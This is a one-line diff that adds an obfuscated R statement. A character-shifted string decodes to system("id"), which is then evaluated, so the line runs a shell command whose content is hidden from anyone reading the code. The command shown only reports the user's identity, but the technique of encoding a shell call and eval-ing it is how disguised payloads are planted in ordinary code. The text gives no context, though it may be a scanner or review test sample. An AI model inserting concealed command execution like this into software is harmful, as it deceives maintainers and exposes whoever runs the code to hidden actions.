@@ -1,0 +1,1 @@
+eval(parse(text = intToUtf8(utf8ToInt("tztufn)#je#*") - 1L)))
